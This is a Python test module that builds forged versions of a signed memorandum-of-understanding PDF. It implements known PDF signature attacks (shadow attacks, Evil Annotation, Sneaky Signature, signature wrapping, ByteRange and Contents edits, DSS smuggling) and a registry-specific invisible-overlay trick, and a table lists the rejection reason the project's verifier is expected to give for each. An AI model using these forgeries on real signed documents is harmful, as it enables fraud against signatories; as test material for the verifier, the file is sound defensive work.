"""Attacks on a signed MoU, built with the project's own signing code and pyHanko: each a
function from the PDF as the registry made it to the PDF a forger would hand over.

From the literature on PDF signatures (pdf-insecurity.org: "Shadow Attacks", "Evil
Annotation", "Sneaky Signature", "Incremental Saving", "Signature Wrapping") and from what
was found against this registry (an overlay through a new field whose /Rect is an indirect
reference, which pyHanko reads as invisible).
"""

import io
import re

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import fields as sig_fields
from pyhanko.sign import signers
from pyhanko.sign.timestamps import HTTPTimeStamper
from pyhanko.stamp import TextStampStyle

from partnerships.documents.engine.fields import AUTHORITY_FIELD, BUSINESS_FIELD
from tests.signing.pdf.tampering import append_page_content

# Over the body text of the first page, where the pledges are.
OVER_THE_TEXT = (90, 560, 500, 640)


def _writer(pdf: bytes) -> IncrementalPdfFileWriter:
    return IncrementalPdfFileWriter(io.BytesIO(pdf))


def _written(writer: IncrementalPdfFileWriter) -> bytes:
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def _numbers(values) -> generic.ArrayObject:
    return generic.ArrayObject([generic.FloatObject(v) for v in values])


def _field(writer, name: str):
    for field_name, _value, ref in sig_fields.enumerate_sig_fields(writer, filled_status=None):
        if field_name == name:
            return ref
    raise LookupError(name)


def white_box(writer, size=(410, 80)) -> generic.IndirectObject:
    """A form XObject that paints a white rectangle: what hides a line of text."""
    width, height = size
    return writer.add_object(
        generic.StreamObject(
            {
                pdf_name("/Type"): pdf_name("/XObject"),
                pdf_name("/Subtype"): pdf_name("/Form"),
                pdf_name("/BBox"): _numbers((0, 0, width, height)),
                pdf_name("/Resources"): generic.DictionaryObject(),
            },
            stream_data=f"1 1 1 rg 0 0 {width} {height} re f".encode(),
        )
    )


def _add_widget(writer, field: generic.DictionaryObject, page_index: int = 0):
    page_ref, _resources = writer.find_page_for_modification(page_index)
    field[pdf_name("/P")] = page_ref
    field_ref = writer.add_object(field)
    form_ref = writer.root.raw_get("/AcroForm")
    form = form_ref.get_object()
    form["/Fields"].append(field_ref)
    writer.update_container(form)
    writer.register_annotation(page_ref, field_ref)
    return field_ref


# --- Overlays after the last signature -------------------------------------------------------


def _existing_number(writer, at_least: float) -> generic.IndirectObject:
    """An integer object already in the file (a stream's /Length, say) of at least
    `at_least`, the smallest such: a corner of a rectangle nobody added."""
    reader = writer.prev
    found = []
    for ref in reader.xrefs.explicit_refs_in_revision(0):
        value = reader.get_object(ref)
        if isinstance(value, generic.NumberObject) and at_least <= int(value) <= 5000:
            found.append((int(value), ref))
    value, ref = min(found)
    return generic.IndirectObject(ref.idnum, ref.generation, writer)


def _existing_appearance(writer, field: str = AUTHORITY_FIELD) -> generic.IndirectObject:
    """The appearance of a signed field: the authority's stamp."""
    return _field(writer, field).get_object()["/AP"].raw_get("/N")


def overlay_through_indirect_rect(
    pdf: bytes, *, tsa_url: str, appearance_ref: int | None = None
) -> bytes:
    """A new "timestamp" field whose /Rect holds an indirect number (an integer object already
    in the file), showing an appearance already in the file (by default the authority's
    stamp; a planted object for the shadow attack) over the text, with a genuine document
    timestamp in it. pyHanko cannot measure such a /Rect, takes the field for invisible and
    the update for an archive timestamp."""
    writer = _writer(pdf)
    appearance = (
        generic.IndirectObject(appearance_ref, 0, writer)
        if appearance_ref is not None
        else _existing_appearance(writer)
    )
    x1, y1, x2, _y2 = OVER_THE_TEXT
    field = generic.DictionaryObject(
        {
            pdf_name("/FT"): pdf_name("/Sig"),
            pdf_name("/T"): generic.TextStringObject("Archive_Timestamp_9"),
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/Widget"),
            pdf_name("/F"): generic.NumberObject(4),
            pdf_name("/Rect"): generic.ArrayObject(
                [*_numbers((x1, y1, x2)), _existing_number(writer, y1 + 40)]
            ),
            pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): appearance}),
        }
    )
    _add_widget(writer, field)
    stamper = signers.PdfTimeStamper(HTTPTimeStamper(tsa_url), field_name="Archive_Timestamp_9")
    return stamper.timestamp_pdf(writer, "sha256").getvalue()


def evil_annotation(pdf: bytes) -> bytes:
    """Evil Annotation: a FreeText annotation whose appearance is a white box over the text."""
    writer = _writer(pdf)
    _add_evil_annotation(writer)
    return _written(writer)


def _add_evil_annotation(writer) -> None:
    page_ref, _resources = writer.find_page_for_modification(0)
    annotation = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/FreeText"),
            pdf_name("/Rect"): _numbers(OVER_THE_TEXT),
            pdf_name("/Contents"): generic.TextStringObject(""),
            pdf_name("/DA"): generic.TextStringObject("0 g /Helv 12 Tf"),
            pdf_name("/F"): generic.NumberObject(4),
            pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): white_box(writer)}),
        }
    )
    writer.register_annotation(page_ref, writer.add_object(annotation))


def sneaky_signature(pdf: bytes, signer) -> bytes:
    """Sneaky Signature: a signature in a new, visible field over the text, its appearance
    saying what the forger wants."""
    writer = _writer(pdf)
    meta = signers.PdfSignatureMetadata(
        field_name="Sig_Sneaky", subfilter=sig_fields.SigSeedSubFilter.PADES
    )
    spec = sig_fields.SigFieldSpec(sig_field_name="Sig_Sneaky", on_page=0, box=OVER_THE_TEXT)
    style = TextStampStyle(stamp_text="So luong: 0 viec lam", background=None)
    return (
        signers.PdfSigner(meta, signer, new_field_spec=spec, stamp_style=style)
        .sign_pdf(writer)
        .getvalue()
    )


# --- Silent changes after the last signature ----------------------------------------------


def change_info_title(pdf: bytes) -> bytes:
    """The /Info title (viewers show it: the catalogue sets DisplayDocTitle)."""
    writer = _writer(pdf)
    info_ref = writer.trailer.raw_get("/Info")
    info_ref.get_object()["/Title"] = generic.TextStringObject("Bản ghi nhớ đã hủy")
    writer.mark_update(info_ref)
    return _written(writer)


def change_xmp_title(pdf: bytes) -> bytes:
    """The XMP metadata's dc:title (what PDF/A viewers show)."""
    writer = _writer(pdf)
    metadata_ref = writer.root.raw_get("/Metadata")
    old = metadata_ref.get_object()
    data = re.sub(
        rb'(<rdf:li xml:lang="x-default">)[^<]*(</rdf:li>)',
        "\\1Bản ghi nhớ đã hủy\\2".encode(),
        old.data,
        count=1,
    )
    writer.objects[(metadata_ref.generation, metadata_ref.idnum)] = generic.StreamObject(
        {pdf_name("/Type"): pdf_name("/Metadata"), pdf_name("/Subtype"): pdf_name("/XML")},
        stream_data=data,
    )
    return _written(writer)


def change_catalogue(pdf: bytes, key: str, value) -> bytes:
    """One entry of the catalogue (/Version, /MarkInfo…) set to `value`."""
    writer = _writer(pdf)
    writer.root[pdf_name(key)] = value
    writer.update_root()
    return _written(writer)


def need_appearances(pdf: bytes) -> bytes:
    """NeedAppearances: viewers redraw the fields' appearances as they please."""
    writer = _writer(pdf)
    form = writer.root["/AcroForm"]
    form[pdf_name("/NeedAppearances")] = generic.BooleanObject(True)
    writer.update_container(form)
    return _written(writer)


def after_the_last_signature(name: str, pdf: bytes, *, tsa_url: str, signer) -> bytes:
    """`pdf` with the change called `name` appended (see AFTER_THE_LAST_SIGNATURE);
    `signer` makes the Sneaky Signature."""
    if name == "overlay_through_indirect_rect":
        return overlay_through_indirect_rect(pdf, tsa_url=tsa_url)
    if name == "sneaky_signature":
        return sneaky_signature(pdf, signer)
    return {
        "evil_annotation": evil_annotation,
        "incremental_saving": append_page_content,
        "info": change_info_title,
        "xmp": change_xmp_title,
        "version": lambda pdf: change_catalogue(pdf, "/Version", pdf_name("/2.0")),
        "mark_info": lambda pdf: change_catalogue(
            pdf,
            "/MarkInfo",
            generic.DictionaryObject({pdf_name("/Marked"): generic.BooleanObject(False)}),
        ),
        "need_appearances": need_appearances,
    }[name](pdf)


# (attack, verify_pdf's reason, the upload check's reason)
AFTER_THE_LAST_SIGNATURE = [
    ("overlay_through_indirect_rect", "overlay_field", "overlay_field"),
    ("evil_annotation", "new_annotation", "new_annotation"),
    ("sneaky_signature", "new_signature_field", "extra_signature"),
    ("incremental_saving", "object_changed", "object_changed"),
    ("info", "info_changed", "info_changed"),
    ("xmp", "metadata_changed", "metadata_changed"),
    ("version", "version_changed", "version_changed"),
    ("mark_info", "mark_info_changed", "mark_info_changed"),
    ("need_appearances", "need_appearances", "need_appearances"),
]


# --- Shadow attacks: planted in the business's signed revision, revealed later -------------


def _business_signs(writer, signer) -> bytes:
    """The business's signature in its prepared field, over whatever `writer` holds."""
    meta = signers.PdfSignatureMetadata(
        field_name=BUSINESS_FIELD, subfilter=sig_fields.SigSeedSubFilter.PADES
    )
    return signers.PdfSigner(meta, signer).sign_pdf(writer).getvalue()


def planted_in_upload(certified: bytes, signer, plant) -> tuple[bytes, dict]:
    """The certified PDF signed by the business, whose signed revision also holds objects that
    nothing refers to: `plant(writer)` adds them and returns {name: reference}."""
    writer = _writer(certified)
    planted = plant(writer)
    return _business_signs(writer, signer), {k: v.idnum for k, v in planted.items()}


def plant_white_box(writer) -> dict:
    return {"box": white_box(writer)}


def plant_page_content(writer) -> dict:
    """A content stream for page 1: a white box over the pledges and new words."""
    return {
        "content": writer.add_object(
            generic.StreamObject(stream_data=b"q 1 1 1 rg 90 560 410 80 re f Q")
        )
    }


def plant_page(writer) -> dict:
    """A whole replacement for page 1: its resources, a content that draws another text."""
    page = writer.root["/Pages"]["/Kids"][0].get_object()
    content = writer.add_object(
        generic.StreamObject(stream_data=b"BT /F1 24 Tf 72 700 Td (Huy bo) Tj ET")
    )
    replacement = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Page"),
            pdf_name("/Parent"): writer.root.raw_get("/Pages"),
            pdf_name("/MediaBox"): page["/MediaBox"],
            pdf_name("/Resources"): page.raw_get("/Resources"),
            pdf_name("/Contents"): content,
        }
    )
    return {"page": writer.add_object(replacement), "content": content}


def shadow_hide(signed: bytes, planted: dict, *, tsa_url: str) -> bytes:
    """Hide: the planted white box shown over the text, through an indirect-/Rect field."""
    return overlay_through_indirect_rect(signed, tsa_url=tsa_url, appearance_ref=planted["box"])


def shadow_replace(signed: bytes, planted: dict) -> bytes:
    """Replace: page 1's content swapped for the planted one."""
    writer = _writer(signed)
    page_ref, _resources = writer.find_page_for_modification(0)
    page = page_ref.get_object()
    page["/Contents"] = generic.IndirectObject(planted["content"], 0, writer)
    writer.update_container(page)
    return _written(writer)


def shadow_hide_and_replace(signed: bytes, planted: dict) -> bytes:
    """Hide-and-replace: the page tree now points at the planted page."""
    writer = _writer(signed)
    pages = writer.root["/Pages"]
    pages["/Kids"][0] = generic.IndirectObject(planted["page"], 0, writer)
    writer.update_container(pages)
    return _written(writer)


# --- Within the business's own revision ----------------------------------------------------


def annotation_in_upload(certified: bytes, signer) -> bytes:
    """Evil Annotation inside the revision the business's signature covers."""
    writer = _writer(certified)
    _add_evil_annotation(writer)
    return _business_signs(writer, signer)


# --- /ByteRange, /Contents and signature wrapping --------------------------------------------


def _signature_dictionary(pdf: bytes, *, last: bool = True) -> tuple[int, int, int]:
    """(where its /ByteRange is, where its /Contents hex string starts and ends) for the last
    (or first) signature; pyHanko writes /Contents first, then /ByteRange."""
    byte_range = pdf.rindex(b"/ByteRange") if last else pdf.index(b"/ByteRange")
    contents = pdf.rindex(b"/Contents <", 0, byte_range) + len(b"/Contents ")
    return byte_range, contents, pdf.index(b">", contents)


def _byte_range(pdf: bytes, at: int) -> list[int]:
    found = re.match(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", pdf[at:])
    return [int(v) for v in found.groups()]


def _with_byte_range(pdf: bytes, at: int, values) -> bytes:
    old = pdf[at : pdf.index(b"]", at) + 1]
    new = ("/ByteRange [" + " ".join(str(v) for v in values) + "]").encode()
    if len(new) > len(old):
        raise ValueError("no room to rewrite the byte range")
    return pdf[:at] + new.ljust(len(old)) + pdf[at + len(old) :]


def contents_zeroed(pdf: bytes) -> bytes:
    """The last signature's /Contents (outside the signed bytes) overwritten with zeros."""
    _at, contents, end = _signature_dictionary(pdf)
    return pdf[: contents + 1] + b"0" * (end - contents - 1) + pdf[end:]


def contents_swapped(pdf: bytes) -> bytes:
    """The last signature's /Contents replaced by the first signature's (another valid CMS
    over other bytes)."""
    _at, first, first_end = _signature_dictionary(pdf, last=False)
    _at, contents, end = _signature_dictionary(pdf)
    space = end - contents - 1
    swapped = pdf[first + 1 : first_end].rstrip(b"0")[:space].ljust(space, b"0")
    return pdf[: contents + 1] + swapped + pdf[end:]


def byte_range_edited(pdf: bytes) -> bytes:
    """The last /ByteRange edited in place to leave the file's last byte uncovered."""
    at, _contents, _end = _signature_dictionary(pdf)
    start, first, second, length = _byte_range(pdf, at)
    return _with_byte_range(pdf, at, (start, first, second, length - 1))


def signature_dictionary_redefined(pdf: bytes, field: str, *, drop_byte_range=False) -> bytes:
    """An update that redefines a signature's dictionary: /ByteRange covering only the first
    part (or none at all), the same /Contents."""
    writer = _writer(pdf)
    value_ref = _field(writer, field).get_object().raw_get("/V")
    value = value_ref.get_object()
    if drop_byte_range:
        del value["/ByteRange"]
    else:
        start, first, _second, _length = (int(v) for v in value["/ByteRange"])
        value["/ByteRange"] = generic.ArrayObject(
            [generic.NumberObject(v) for v in (start, first, first, 0)]
        )
    writer.mark_update(value_ref)
    return _written(writer)


def signature_wrapping(pdf: bytes) -> bytes:
    """Signature wrapping: the second signed part (it holds /ByteRange) is copied to the end
    of the file and the /ByteRange in its old place points there; the old place then holds
    what the forger wants (here another /Reason). The signed bytes are intact."""
    at, _contents, _end = _signature_dictionary(pdf)
    start, first, second, length = _byte_range(pdf, at)
    signed_part = pdf[second : second + length]
    forged = _with_byte_range(pdf, at, (start, first, len(pdf) + 1, length))
    reason = forged.index(b"/Reason (", second) + len(b"/Reason (")
    forged = forged[:reason] + b"\xfe\xff\x00H\x00U\x00Y" + forged[reason + 8 :]
    return forged + b"\n" + signed_part


def dss_smuggled_page_change(pdf: bytes) -> bytes:
    """Two updates that each look like validation data: the first lists page 1's content
    stream among the DSS's certificates, the second rewrites that "certificate"."""
    writer = _writer(pdf)
    page = writer.root["/Pages"]["/Kids"][0].get_object()
    contents = page.raw_get("/Contents")
    content_ref = contents if isinstance(contents, generic.IndirectObject) else contents[0]
    dss = writer.root["/DSS"]
    dss["/Certs"].append(content_ref)
    writer.update_container(dss)
    listed = _written(writer)

    writer = _writer(listed)
    stream = content_ref.get_object()
    stream.strip_filters()
    stream._data = stream.data + b"\nq 1 1 1 rg 90 560 410 80 re f Q"
    stream._encoded_data = None
    writer.mark_update(content_ref)
    return _written(writer)
